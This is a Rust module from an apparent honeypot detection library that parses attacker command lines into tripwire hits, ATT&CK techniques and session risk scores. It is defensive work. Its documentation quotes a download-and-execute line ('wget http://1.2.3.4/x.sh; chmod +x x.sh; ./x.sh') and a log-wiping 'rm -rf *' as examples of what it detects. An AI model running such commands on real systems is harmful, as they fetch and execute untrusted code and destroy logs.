//! Tripwires: what the commands an attacker types on a honeypot give away.
//!
//! A honeypot session is a stream of command lines (`cd /tmp; wget http://1.2.3.4/x.sh; chmod
//! +x x.sh; ./x.sh`) in time order. [`SessionRisk::observe`] reads each line and returns the
//! [`Hit`]s it caused; the session keeps a bounded summary: its hits, the ATT&CK techniques that
//! actually happened and a [`Risk`] score.
//!
//! # Why not substrings
//!
//! CerberusMesh, the prototype this replaces, matched tripwire words anywhere in the line: it
//! found `sh` in `sshd`, `passwd` in `cat /etc/passwd`, and gave every hit of a table the same
//! fixed list of techniques. Here a line is parsed like a shell would split it (`;`, `&&`, `||`,
//! `|`, `&`, newlines, `$(…)`, backticks, `sh -c '…'`, here-documents, see `parse`), each simple
//! command's command word is found past assignments and wrappers (`sudo`, `nohup`, `busybox`,
//! `timeout N`, `nice`, `exec`, `command`, `env`, `xargs`), and tools are recognised by that word
//! only. Arguments are matched as what they are: a path read, written, truncated or deleted
//! (resolved against the session's working directory, so `cd /var/log; rm -rf *` clears logs),
//! an option, a URL. Each rule carries its own techniques, and a session's techniques are the
//! union of the hits it had, nothing more.
//!
//! # Families
//!
//! [`Family`]: reconnaissance/discovery, persistence, stealth, defence impairment, credential
//! access, download and execute, crypto-mining, lateral movement, impact, and automation (the
//! frequency rules). Stealth and Defence Impairment follow ATT&CK v19, which split the old
//! Defense Evasion tactic in two: hiding (clearing history, timestomping, hidden directories,
//! deleting tools) versus breaking defences (preventing history logging, clearing system logs,
//! disabling the firewall, SELinux, audit or security agents, `chattr`). Every technique id is
//! the v19 one and in [`tripline_event::catalog::TECHNIQUES`].
//!
//! # Sequences
//!
//! A [`Sequence`] fires when its steps happen in order within its window, once per session
//! (the window runs from the first step to the last; a step is a rule that fired on a command, a
//! command word, or any hit of medium severity or worse):
//!
//! | id | steps | window | severity |
//! |---|---|---|---|
//! | `tw.seq.download_execute` | download → `chmod +x` → run a dropped file | 300 s | critical |
//! | `tw.seq.persistence_chain` | `crontab` → `ssh-keygen` → write `authorized_keys` | 900 s | high |
//! | `tw.seq.cover_tracks` | a medium-or-worse hit → clear the shell history | 600 s | high |
//! | `tw.seq.fingerprint_then_fetch` | system information → download | 120 s | medium |
//! | `tw.seq.miner_deploy` | download → start a miner or point one at a pool | 600 s | critical |
//!
//! # Frequency
//!
//! - `tw.freq.automation`: 20 command lines within 10 s (a person does not type that fast);
//! - `tw.freq.recon_burst`: 5 distinct discovery commands within 60 s (fingerprinting);
//! - `tw.freq.repeated_line`: the same line 5 times within 60 s (a bot's retry loop).
//!
//! Each fires once per session.
//!
//! # Risk
//!
//! [`Risk`] has CerberusMesh's three scores and a total, each in 0–1 and never decreasing as a
//! session goes on. A rule counts once, however often it fires, with the weight of its severity
//! (low 0.10, medium 0.25, high 0.50, critical 0.80), and a family's rules combine as
//! independent evidence (`1 − Π(1 − w)`):
//!
//! - `automation` = `1 − (1 − 0.8·rate)·Π(1 − w)` over the automation rules, where `rate` is the
//!   most command lines seen in any 10 s, over 20 (capped at 1);
//! - `persistence` over the persistence rules and sequences;
//! - `stealth` over the stealth and defence-impairment rules and sequences;
//! - `total` = `1 − (1 − worst)·(1 − blend)` with `blend` = 0.25·automation + 0.30·persistence +
//!   0.25·stealth + 0.20·other, where `other` combines every other family the same way and
//!   `worst` is the weight of the worst severity seen: one critical hit (a miner, a wiped disk)
//!   puts a session at 0.8 at least, never diluted by the rest, and the breadth of what else it
//!   did raises it further.
//!
//! # Bounds
//!
//! At most the first 8 KiB of a line and 64 simple commands of it are read, nesting is read 8
//! levels deep, a session keeps at most [`MAX_HITS`] hits (the least severe make room for worse
//! ones) and small fixed-size counters, never the commands. Rules are prefiltered by command
//! word (a hash look-up) and by one Aho-Corasick pass over the line; only the rules that can
//! apply run.

mod parse;
mod rules;
#[cfg(test)]
mod tests;

use aho_corasick::AhoCorasick;
use rules::{Env, Need, Patterns, RULES};
use rustc_hash::{FxHashMap, FxHasher};
use serde::{Deserialize, Serialize};
use std::hash::{Hash, Hasher};
use std::sync::OnceLock;
use tripline_event::catalog::canonical_technique;
pub use tripline_event::Severity;

/// Hits a session keeps.
pub const MAX_HITS: usize = 64;

const SECOND: i64 = 1_000_000;

/// The kind of attacker behaviour a tripwire is about.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Family {
    /// Reconnaissance and discovery: learning what the host is.
    Recon,
    /// Staying: cron, keys, services, accounts, boot and shell scripts.
    Persistence,
    /// Hiding (ATT&CK v19 Stealth): clearing history, timestomping, hidden files.
    Stealth,
    /// Breaking defences (ATT&CK v19 Defense Impairment): logs, firewall, SELinux, agents.
    DefenseImpairment,
    /// Stealing credentials: hashes, keys, history, cloud credentials.
    CredentialAccess,
    /// Fetching and running payloads.
    DownloadExecute,
    /// Crypto-mining.
    Mining,
    /// Reaching other hosts.
    LateralMovement,
    /// Destruction and denial of service.
    Impact,
    /// Machine speed and repetition: a bot, not a person.
    Automation,
}

impl Family {
    pub const ALL: [Family; 10] = [
        Family::Recon,
        Family::Persistence,
        Family::Stealth,
        Family::DefenseImpairment,
        Family::CredentialAccess,
        Family::DownloadExecute,
        Family::Mining,
        Family::LateralMovement,
        Family::Impact,
        Family::Automation,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Family::Recon => "recon",
            Family::Persistence => "persistence",
            Family::Stealth => "stealth",
            Family::DefenseImpairment => "defense_impairment",
            Family::CredentialAccess => "credential_access",
            Family::DownloadExecute => "download_execute",
            Family::Mining => "mining",
            Family::LateralMovement => "lateral_movement",
            Family::Impact => "impact",
            Family::Automation => "automation",
        }
    }
}

/// A tripwire that fired.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Hit {
    /// The tripwire's id (`tw.persist.cron`, `tw.seq.download_execute`).
    pub rule: &'static str,
    pub family: Family,
    pub severity: Severity,
    /// ATT&CK technique ids (current, in the catalog).
    pub techniques: &'static [&'static str],
    /// Why, with the offending command (truncated).
    pub reason: String,
}

/// What a tripwire is, for listings and the catalog.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct TripwireInfo {
    pub id: &'static str,
    pub family: Family,
    pub severity: Severity,
    pub techniques: &'static [&'static str],
    /// What it means, a few words.
    pub reason: &'static str,
}

/// A step of a [`Sequence`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Step {
    /// One of these command rules fired on a command.
    Rule(&'static [&'static str]),
    /// A command with this name ran.
    Word(&'static str),
    /// A command rule of medium severity or worse fired, other than the ones that cover tracks
    /// (clearing history or logs, preventing history logging).
    Suspicious,
}

/// Steps that must happen in order, within a window, in one session.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Sequence {
    pub id: &'static str,
    pub family: Family,
    pub severity: Severity,
    pub techniques: &'static [&'static str],
    pub reason: &'static str,
    pub steps: &'static [Step],
    /// From the first step to the last.
    pub window_secs: u32,
}

const MAX_STEPS: usize = 4;

/// The built-in sequences.
pub static SEQUENCES: &[Sequence] = &[
    Sequence {
        id: "tw.seq.download_execute",
        family: Family::DownloadExecute,
        severity: Severity::Critical,
        techniques: &["T1105", "T1222.002", "T1059.004"],
        reason: "downloaded a file, made it executable and ran it",
        steps: &[
            Step::Rule(&["tw.dl.download", "tw.dl.pipe_to_shell"]),
            Step::Rule(&["tw.exec.chmod_exec"]),
            Step::Rule(&["tw.exec.run_dropped"]),
        ],
        window_secs: 300,
    },
    Sequence {
        id: "tw.seq.persistence_chain",
        family: Family::Persistence,
        severity: Severity::High,
        techniques: &["T1098.004"],
        reason: "touched cron, made an SSH key and installed an authorized key",
        steps: &[
            Step::Word("crontab"),
            Step::Word("ssh-keygen"),
            Step::Rule(&["tw.persist.authorized_keys"]),
        ],
        window_secs: 900,
    },
    Sequence {
        id: "tw.seq.cover_tracks",
        family: Family::Stealth,
        severity: Severity::High,
        techniques: &["T1070.003"],
        reason: "cleared the shell history after suspicious commands",
        steps: &[Step::Suspicious, Step::Rule(&["tw.stealth.clear_history"])],
        window_secs: 600,
    },
    Sequence {
        id: "tw.seq.fingerprint_then_fetch",
        family: Family::Recon,
        severity: Severity::Medium,
        techniques: &["T1082", "T1105"],
        reason: "fingerprinted the host, then fetched a payload",
        steps: &[
            Step::Rule(&["tw.recon.system_info"]),
            Step::Rule(&["tw.dl.download", "tw.dl.pipe_to_shell"]),
        ],
        window_secs: 120,
    },
    Sequence {
        id: "tw.seq.miner_deploy",
        family: Family::Mining,
        severity: Severity::Critical,
        techniques: &["T1105", "T1496.001"],
        reason: "downloaded a file, then started a miner",
        steps: &[
            Step::Rule(&["tw.dl.download", "tw.dl.pipe_to_shell"]),
            Step::Rule(&["tw.mine.miner", "tw.mine.pool"]),
        ],
        window_secs: 600,
    },
];

/// A frequency rule: `count` events within `window_secs`.
struct Frequency {
    info: TripwireInfo,
    count: usize,
    window_secs: i64,
}

const AUTOMATION: Frequency = Frequency {
    info: TripwireInfo {
        id: "tw.freq.automation",
        family: Family::Automation,
        severity: Severity::Medium,
        techniques: &[],
        reason: "command lines faster than a person types",
    },
    count: 20,
    window_secs: 10,
};

const RECON_BURST: Frequency = Frequency {
    info: TripwireInfo {
        id: "tw.freq.recon_burst",
        family: Family::Recon,
        severity: Severity::Medium,
        techniques: &[],
        reason: "a burst of distinct discovery commands",
    },
    count: 5,
    window_secs: 60,
};

const REPEATED_LINE: Frequency = Frequency {
    info: TripwireInfo {
        id: "tw.freq.repeated_line",
        family: Family::Automation,
        severity: Severity::Low,
        techniques: &[],
        reason: "the same command line again and again",
    },
    count: 5,
    window_secs: 60,
};

const FREQUENCIES: [&Frequency; 3] = [&AUTOMATION, &RECON_BURST, &REPEATED_LINE];

/// A sequence step, with its rules resolved to a mask.
#[derive(Debug, Clone, Copy)]
enum CompiledStep {
    Mask(u128),
    Word(&'static str),
    Suspicious,
}

/// The compiled tripwire tables. Build them once with [`Tripwires::builtin`] and share them.
pub struct Tripwires {
    ac: AhoCorasick,
    /// Per needle (Aho-Corasick pattern id): the rules it lets run.
    needle_rules: Vec<u128>,
    /// Per command name: the rules that list it.
    by_word: FxHashMap<&'static str, u128>,
    word_only: u128,
    needle_only: u128,
    either: u128,
    both: u128,
    always: u128,
    recon: u128,
    suspicious: u128,
    steps: Vec<Vec<CompiledStep>>,
    pat: Patterns,
    info: Vec<TripwireInfo>,
}

/// What a line gave: its commands and the rules each fired.
struct Analysis {
    cmds: Vec<parse::Cmd>,
    masks: Vec<u128>,
}

fn bit(i: usize) -> u128 {
    1u128 << i
}

fn bits(mut m: u128) -> impl Iterator<Item = usize> {
    std::iter::from_fn(move || {
        (m != 0).then(|| {
            let i = m.trailing_zeros() as usize;
            m &= m - 1;
            i
        })
    })
}

impl Tripwires {
    /// The built-in tables, compiled on first use and shared for the life of the process.
    pub fn builtin() -> &'static Tripwires {
        static BUILT: OnceLock<Tripwires> = OnceLock::new();
        BUILT.get_or_init(Tripwires::compile)
    }

    fn compile() -> Tripwires {
        assert!(
            RULES.len() + FREQUENCIES.len() + SEQUENCES.len() <= 128,
            "tripwire masks are 128 bits"
        );
        let mut needles: Vec<&'static str> = vec![];
        let mut needle_rules: Vec<u128> = vec![];
        let mut by_word: FxHashMap<&'static str, u128> = FxHashMap::default();
        let (mut word_only, mut needle_only, mut either, mut both, mut always) = (0, 0, 0, 0, 0);
        let (mut recon, mut suspicious) = (0, 0);
        for (i, r) in RULES.iter().enumerate() {
            for w in r.words {
                *by_word.entry(w).or_default() |= bit(i);
            }
            for n in r.needles {
                debug_assert_eq!(*n, n.to_ascii_lowercase(), "needles are lowercase");
                let k = match needles.iter().position(|x| x == n) {
                    Some(k) => k,
                    None => {
                        needles.push(n);
                        needle_rules.push(0);
                        needles.len() - 1
                    }
                };
                needle_rules[k] |= bit(i);
            }
            match r.need {
                Need::Word => word_only |= bit(i),
                Need::Needle => needle_only |= bit(i),
                Need::WordOrNeedle => either |= bit(i),
                Need::WordAndNeedle => both |= bit(i),
                Need::Always => always |= bit(i),
            }
            if r.family == Family::Recon {
                recon |= bit(i);
            }
            let covers_tracks = matches!(
                r.id,
                "tw.stealth.clear_history" | "tw.impair.history_logging" | "tw.impair.clear_logs"
            );
            if r.severity >= Severity::Medium && !covers_tracks {
                suspicious |= bit(i);
            }
        }
        let ac = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(&needles)
            .expect("the tripwire needles compile");
        let rule_index = |id: &str| {
            RULES
                .iter()
                .position(|r| r.id == id)
                .unwrap_or_else(|| panic!("a sequence names an unknown rule {id}"))
        };
        let steps = SEQUENCES
            .iter()
            .map(|s| {
                assert!(
                    !s.steps.is_empty() && s.steps.len() <= MAX_STEPS,
                    "{}",
                    s.id
                );
                s.steps
                    .iter()
                    .map(|st| match *st {
                        Step::Rule(ids) => {
                            CompiledStep::Mask(ids.iter().fold(0, |m, id| m | bit(rule_index(id))))
                        }
                        Step::Word(w) => CompiledStep::Word(w),
                        Step::Suspicious => CompiledStep::Suspicious,
                    })
                    .collect()
            })
            .collect();
        let info = RULES
            .iter()
            .map(|r| TripwireInfo {
                id: r.id,
                family: r.family,
                severity: r.severity,
                techniques: r.techniques,
                reason: r.reason,
            })
            .chain(FREQUENCIES.iter().map(|f| f.info))
            .chain(SEQUENCES.iter().map(|s| TripwireInfo {
                id: s.id,
                family: s.family,
                severity: s.severity,
                techniques: s.techniques,
                reason: s.reason,
            }))
            .collect();
        Tripwires {
            ac,
            needle_rules,
            by_word,
            word_only,
            needle_only,
            either,
            both,
            always,
            recon,
            suspicious,
            steps,
            pat: Patterns::new(),
            info,
        }
    }

    /// Every tripwire: the command rules, then the frequency rules, then the sequences.
    pub fn tripwires(&self) -> &[TripwireInfo] {
        &self.info
    }

    /// The command-rule hits of one line on its own (no sequences, no frequency rules; the
    /// working directory is the home directory).
    pub fn scan(&self, line: &str) -> Vec<Hit> {
        let mut cwd = "~".to_string();
        let a = self.analyze(line, &mut cwd);
        let mut seen = 0u128;
        let mut out = vec![];
        for (cmd, &m) in a.cmds.iter().zip(&a.masks) {
            for r in bits(m & !seen) {
                out.push(self.hit(r, &cmd.text));
            }
            seen |= m;
        }
        out
    }

    /// Parses a line and runs the rules that can apply to each command; `cd` moves `cwd`.
    fn analyze(&self, line: &str, cwd: &mut String) -> Analysis {
        let line = parse::clip(line, parse::MAX_LINE);
        let cmds = parse::parse(line);
        let mut present = 0u128;
        if !cmds.is_empty() {
            for m in self.ac.find_overlapping_iter(line) {
                present |= self.needle_rules[m.pattern().as_usize()];
            }
        }
        let by_needle = present & (self.needle_only | self.either);
        let mut masks = Vec::with_capacity(cmds.len());
        for idx in 0..cmds.len() {
            let c = &cmds[idx];
            let words = self.by_word.get(c.name()).copied().unwrap_or(0);
            let candidates = self.always
                | by_needle
                | (words & (self.word_only | self.either))
                | (words & present & self.both);
            let env = Env {
                cmds: &cmds,
                idx,
                cwd,
                line,
                pat: &self.pat,
            };
            let mut m = 0u128;
            for r in bits(candidates) {
                if (RULES[r].check)(&env, c) {
                    m |= bit(r);
                }
            }
            masks.push(m);
            if c.name() == "cd" {
                change_dir(cwd, c);
            }
        }
        Analysis { cmds, masks }
    }

    fn hit(&self, idx: usize, text: &str) -> Hit {
        let info = &self.info[idx];
        Hit {
            rule: info.id,
            family: info.family,
            severity: info.severity,
            techniques: info.techniques,
            reason: format!("{}: {}", info.reason, snippet(text)),
        }
    }

    fn freq_index(f: &Frequency) -> usize {
        RULES.len()
            + FREQUENCIES
                .iter()
                .position(|g| g.info.id == f.info.id)
                .expect("a frequency rule is listed")
    }

    fn seq_index(s: usize) -> usize {
        RULES.len() + FREQUENCIES.len() + s
    }
}

/// Moves the working directory as `cd` would (unknown after `cd -` or a long path).
fn change_dir(cwd: &mut String, c: &parse::Cmd) {
    let target = c.operands().next();
    *cwd = match target {
        None | Some("~") => "~".to_string(),
        Some("-") => String::new(),
        Some(t) => {
            let p = rules::resolve(cwd, t);
            if p.len() > 256 || !(p.starts_with('/') || p.starts_with('~')) {
                String::new()
            } else {
                p
            }
        }
    };
}

/// `s` with control characters replaced, cut to 120 characters.
fn snippet(s: &str) -> String {
    const MAX: usize = 120;
    let mut out = String::with_capacity(s.len().min(MAX * 2));
    for (n, ch) in s.chars().enumerate() {
        if n == MAX {
            out.push('…');
            break;
        }
        out.push(if ch.is_control() { '?' } else { ch });
    }
    out
}

/// The weight of a severity in the scores.
fn weight(s: Severity) -> f32 {
    match s {
        Severity::Info => 0.05,
        Severity::Low => 0.10,
        Severity::Medium => 0.25,
        Severity::High => 0.50,
        Severity::Critical => 0.80,
    }
}

/// A session's risk, each part in 0–1 (see the module documentation for the formula).
#[derive(Debug, Clone, Copy, PartialEq, Default, Serialize)]
pub struct Risk {
    pub automation: f32,
    pub persistence: f32,
    pub stealth: f32,
    pub total: f32,
}

/// A bounded table of keys with the time they were last (or first) seen.
#[derive(Debug, Clone, Default)]
struct Recent<K> {
    entries: Vec<(K, i64, u32)>,
}

impl<K: PartialEq> Recent<K> {
    /// Counts `key` at `now`; the count restarts when its first sighting is older than
    /// `window`. Returns the count.
    fn bump(&mut self, key: K, now: i64, window: i64, cap: usize) -> u32 {
        if let Some(e) = self.entries.iter_mut().find(|e| e.0 == key) {
            if now.saturating_sub(e.1) > window {
                e.1 = now;
                e.2 = 0;
            }
            e.2 += 1;
            return e.2;
        }
        self.make_room(cap);
        self.entries.push((key, now, 1));
        1
    }

    /// Marks `key` seen at `now` and returns how many keys were seen within `window` of it.
    fn touch(&mut self, key: K, now: i64, window: i64, cap: usize) -> usize {
        match self.entries.iter_mut().find(|e| e.0 == key) {
            Some(e) => e.1 = now,
            None => {
                self.make_room(cap);
                self.entries.push((key, now, 0));
            }
        }
        self.entries
            .iter()
            .filter(|e| now.saturating_sub(e.1) <= window)
            .count()
    }

    /// When the table holds `cap` keys, forgets the one seen longest ago.
    fn make_room(&mut self, cap: usize) {
        if self.entries.len() >= cap {
            if let Some(oldest) = (0..self.entries.len()).min_by_key(|&k| self.entries[k].1) {
                self.entries.swap_remove(oldest);
            }
        }
    }
}

/// What one honeypot session did, in bounded memory: its hits (at most [`MAX_HITS`]), the
/// techniques, the scores' counters and the little state sequences and frequency rules need.
#[derive(Debug, Clone)]
pub struct SessionRisk {
    hits: Vec<Hit>,
    /// Hits not kept (the table was full of worse ones).
    dropped: u64,
    lines: u64,
    worst: Option<Severity>,
    techniques: Vec<&'static str>,
    /// Tripwires that fired at least once (bit = index in [`Tripwires::tripwires`]).
    fired: u128,
    /// Π(1 − w) of the tripwires that fired, per score.
    miss_automation: f32,
    miss_persistence: f32,
    miss_stealth: f32,
    miss_other: f32,
    /// The most lines seen within 10 s.
    peak_rate: u32,
    /// The last lines' times (a ring of `AUTOMATION.count`).
    recent_lines: Vec<i64>,
    recent_head: usize,
    recon_words: Recent<String>,
    repeated: Recent<u64>,
    /// Per sequence, per step: the latest start of a chain that reached that step.
    progress: Vec<[Option<i64>; MAX_STEPS]>,
    cwd: String,
}

impl Default for SessionRisk {
    fn default() -> Self {
        SessionRisk::new()
    }
}

impl SessionRisk {
    pub fn new() -> SessionRisk {
        SessionRisk {
            hits: vec![],
            dropped: 0,
            lines: 0,
            worst: None,
            techniques: vec![],
            fired: 0,
            miss_automation: 1.0,
            miss_persistence: 1.0,
            miss_stealth: 1.0,
            miss_other: 1.0,
            peak_rate: 0,
            recent_lines: Vec::with_capacity(AUTOMATION.count),
            recent_head: 0,
            recon_words: Recent::default(),
            repeated: Recent::default(),
            progress: vec![[None; MAX_STEPS]; SEQUENCES.len()],
            cwd: "~".to_string(),
        }
    }

    /// Reads one command line typed at `ts_micros` and returns the hits it caused: the command
    /// rules (one hit per rule per line), the sequences it completed and the frequency rules it
    /// crossed.
    pub fn observe(&mut self, tw: &Tripwires, ts_micros: i64, line: &str) -> Vec<Hit> {
        self.lines += 1;
        let a = tw.analyze(line, &mut self.cwd);
        let mut new: Vec<(usize, Hit)> = vec![];
        let mut seen = 0u128;
        for (cmd, &mask) in a.cmds.iter().zip(&a.masks) {
            for r in bits(mask & !seen) {
                new.push((r, tw.hit(r, &cmd.text)));
            }
            seen |= mask;
            for (s, steps) in tw.steps.iter().enumerate() {
                let idx = Tripwires::seq_index(s);
                if self.fired & bit(idx) != 0 || new.iter().any(|(k, _)| *k == idx) {
                    continue;
                }
                let window = i64::from(SEQUENCES[s].window_secs) * SECOND;
                let done = advance(
                    &mut self.progress[s],
                    steps,
                    |st| match *st {
                        CompiledStep::Mask(m) => mask & m != 0,
                        CompiledStep::Word(w) => cmd.name() == w,
                        CompiledStep::Suspicious => mask & tw.suspicious != 0,
                    },
                    ts_micros,
                    window,
                );
                if done {
                    new.push((idx, tw.hit(idx, &cmd.text)));
                }
            }
        }
        self.frequency(tw, ts_micros, line, &a, &mut new);
        for (idx, h) in &new {
            self.record(*idx, h.clone());
        }
        new.into_iter().map(|(_, h)| h).collect()
    }

    fn frequency(
        &mut self,
        tw: &Tripwires,
        now: i64,
        line: &str,
        a: &Analysis,
        new: &mut Vec<(usize, Hit)>,
    ) {
        let text = parse::clip(line, parse::MAX_LINE).trim();
        let mut fire = |me: &mut Self, f: &Frequency| {
            let idx = Tripwires::freq_index(f);
            if me.fired & bit(idx) == 0 && !new.iter().any(|(k, _)| *k == idx) {
                new.push((idx, tw.hit(idx, text)));
            }
        };
        // automation: the last `count` line times
        let cap = AUTOMATION.count;
        if self.recent_lines.len() < cap {
            self.recent_lines.push(now);
        } else {
            self.recent_lines[self.recent_head] = now;
            self.recent_head = (self.recent_head + 1) % cap;
        }
        let window = AUTOMATION.window_secs * SECOND;
        let in_window = self
            .recent_lines
            .iter()
            .filter(|&&t| now.saturating_sub(t) <= window)
            .count();
        self.peak_rate = self.peak_rate.max(in_window as u32);
        if in_window >= cap {
            fire(self, &AUTOMATION);
        }
        // distinct discovery commands
        let window = RECON_BURST.window_secs * SECOND;
        for (cmd, &m) in a.cmds.iter().zip(&a.masks) {
            if m & tw.recon == 0 {
                continue;
            }
            let key = parse::clip(cmd.name(), 64).to_string();
            if self.recon_words.touch(key, now, window, 16) >= RECON_BURST.count {
                fire(self, &RECON_BURST);
            }
        }
        // the same line again
        if !text.is_empty() {
            let mut h = FxHasher::default();
            text.hash(&mut h);
            let window = REPEATED_LINE.window_secs * SECOND;
            if self.repeated.bump(h.finish(), now, window, 8) as usize >= REPEATED_LINE.count {
                fire(self, &REPEATED_LINE);
            }
        }
    }

    fn record(&mut self, idx: usize, hit: Hit) {
        if self.fired & bit(idx) == 0 {
            self.fired |= bit(idx);
            let keep = 1.0 - weight(hit.severity);
            match hit.family {
                Family::Automation => self.miss_automation *= keep,
                Family::Persistence => self.miss_persistence *= keep,
                Family::Stealth | Family::DefenseImpairment => self.miss_stealth *= keep,
                _ => self.miss_other *= keep,
            }
        }
        self.worst = self.worst.max(Some(hit.severity));
        for t in hit.techniques {
            let t = canonical_technique(t);
            if let Err(at) = self.techniques.binary_search(&t) {
                self.techniques.insert(at, t);
            }
        }
        if self.hits.len() < MAX_HITS {
            self.hits.push(hit);
            return;
        }
        // full: the least severe (the oldest of them) makes room for a worse hit
        let (at, least) = self
            .hits
            .iter()
            .enumerate()
            .min_by_key(|(k, h)| (h.severity, *k))
            .map(|(k, h)| (k, h.severity))
            .expect("the table is full");
        if hit.severity > least {
            self.hits.remove(at);
            self.hits.push(hit);
        } else {
            self.dropped += 1;
        }
    }

    /// The session's scores.
    pub fn risk(&self) -> Risk {
        let rate = (self.peak_rate as f32 / AUTOMATION.count as f32).min(1.0);
        let automation = 1.0 - (1.0 - 0.8 * rate) * self.miss_automation;
        let persistence = 1.0 - self.miss_persistence;
        let stealth = 1.0 - self.miss_stealth;
        let other = 1.0 - self.miss_other;
        let blend = 0.25 * automation + 0.30 * persistence + 0.25 * stealth + 0.20 * other;
        let worst = self.worst.map_or(0.0, weight);
        let unit = |x: f32| x.clamp(0.0, 1.0);
        Risk {
            automation: unit(automation),
            persistence: unit(persistence),
            stealth: unit(stealth),
            total: unit(1.0 - (1.0 - worst) * (1.0 - blend)),
        }
    }

    /// The ATT&CK techniques of every hit this session had (current ids, sorted, unique).
    pub fn techniques(&self) -> Vec<&'static str> {
        self.techniques.clone()
    }

    /// The hits kept, in the order they happened.
    pub fn hits(&self) -> &[Hit] {
        &self.hits
    }

    /// The worst severity of any hit.
    pub fn worst(&self) -> Option<Severity> {
        self.worst
    }

    /// Command lines observed.
    pub fn lines(&self) -> u64 {
        self.lines
    }

    /// Hits not kept because [`MAX_HITS`] worse ones were.
    pub fn dropped_hits(&self) -> u64 {
        self.dropped
    }
}

/// Moves a sequence along for one command: `state[i]` is the latest start of a chain that has
/// done steps `0..=i` in order within `window`. Steps are tried from the last so that one command
/// never counts as two steps. True when the last step is reached.
fn advance(
    state: &mut [Option<i64>; MAX_STEPS],
    steps: &[CompiledStep],
    matches: impl Fn(&CompiledStep) -> bool,
    now: i64,
    window: i64,
) -> bool {
    for i in (0..steps.len()).rev() {
        if !matches(&steps[i]) {
            continue;
        }
        let start = if i == 0 {
            Some(now)
        } else {
            state[i - 1].filter(|&s| now.saturating_sub(s) <= window)
        };
        if let Some(s) = start {
            state[i] = Some(state[i].map_or(s, |old| old.max(s)));
        }
    }
    state[steps.len() - 1].is_some()
}
